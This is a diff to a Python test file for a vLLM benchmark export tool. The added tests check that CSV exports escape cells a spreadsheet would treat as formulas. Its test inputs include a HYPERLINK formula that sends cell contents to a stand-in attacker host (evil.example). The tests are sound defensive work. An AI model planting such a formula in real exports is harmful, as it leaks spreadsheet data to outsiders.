@@ -3,17 +3,19 @@ and JSON in `vllm bench serve --save-result --save-detailed` field names and uni
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import math
 import re
+import sqlite3
 from typing import Any
 
 import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
-from lib import cli, exports, results, store
+from lib import cli, csv_safe, exports, results, review, store
 from tests.test_report import EVIL_ANSWER, EVIL_ERROR, call, record_run
 
 # Every key `vllm bench serve` writes with --save-result --save-detailed for a chat
@@ -169,3 +171,56 @@ def test_cli_export_needs_exactly_one_format(run, tmp_path):
     with pytest.raises(cli.UsageError, match="no run 'nope'"):
         call("export", "nope", "--csv", str(tmp_path / "a.csv"), "--db", str(db))
     assert not (tmp_path / "a.csv").exists()
+
+
+# --- spreadsheet formulas --------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-x", "@SUM(A1:A9)",
+            "\tfoo", "\rbar"]  # fmt: skip
+
+
+def test_csv_guards_cells_a_spreadsheet_would_evaluate(run, tmp_path):
+    """Every text cell starting with = + - @ tab or CR (answers, errors, prompts, lane and
+    model names) comes out behind a single quote; a negative number stays a number."""
+    src_db, run_id = run
+    db = tmp_path / "formulas.db"
+    with sqlite3.connect(src_db) as src, sqlite3.connect(db) as dst:
+        src.backup(dst)
+    conn = sqlite3.connect(db)
+    try:
+        ids = [i for (i,) in conn.execute("SELECT id FROM requests ORDER BY id")]
+        for rid, text in zip(ids, FORMULAS, strict=False):
+            conn.execute("UPDATE requests SET output_text = ? WHERE id = ?", (text, rid))
+        conn.execute("UPDATE requests SET error = '+err', ttft_ms = -3.5 WHERE id = ?", (ids[-1],))
+        conn.execute("UPDATE lanes SET name = '=lane', model = '@model' WHERE lane_idx = 0")
+        (config,) = conn.execute("SELECT config_json FROM runs").fetchone()
+        config = json.loads(config)
+        config["prompts"][0]["messages"][-1]["content"] = "-prompt"
+        conn.execute("UPDATE runs SET config_json = ?", (json.dumps(config),))
+        conn.commit()
+    finally:
+        conn.close()
+    raw = exports.csv_bytes(db, run_id).decode("utf-8")
+    frame = pd.read_csv(io.StringIO(raw))
+    answers = frame["output_text"].tolist()
+    for text in FORMULAS:
+        assert "'" + text in answers and text not in answers, repr(text)
+    assert "'+err" in frame["error"].tolist()
+    assert set(frame.loc[frame["lane_idx"] == 0, "lane"]) == {"'=lane"}
+    assert set(frame.loc[frame["lane_idx"] == 0, "model"]) == {"'@model"}
+    assert "'-prompt" in frame["prompt"].tolist()
+    # Numbers stay numbers: unquoted in the file, a float when read back.
+    assert ",-3.5," in raw and "'-3.5" not in raw
+    assert pd.api.types.is_float_dtype(frame["ttft_ms"]) and -3.5 in frame["ttft_ms"].tolist()
+    assert frame["lane_idx"].min() == 0 and pd.api.types.is_integer_dtype(frame["lane_idx"])
+
+
+def test_one_guard_for_every_csv():
+    """lib.csv_safe.guard is the one rule: strings only, numbers and None pass through."""
+    assert [csv_safe.guard(t) for t in FORMULAS] == ["'" + t for t in FORMULAS]
+    assert [csv_safe.guard(v) for v in (-3.5, -2, None, "", "a=b", "3-1")] == [
+        -3.5, -2, None, "", "a=b", "3-1"
+    ]  # fmt: skip
+    rows = [{"voter": "-x", "concurrency": -1, "prompt": "\rbar"}]
+    parsed = next(csv.DictReader(io.StringIO(review.votes_csv(rows))))
+    assert (parsed["voter"], parsed["concurrency"], parsed["prompt"]) == ("'-x", "-1", "'\rbar")
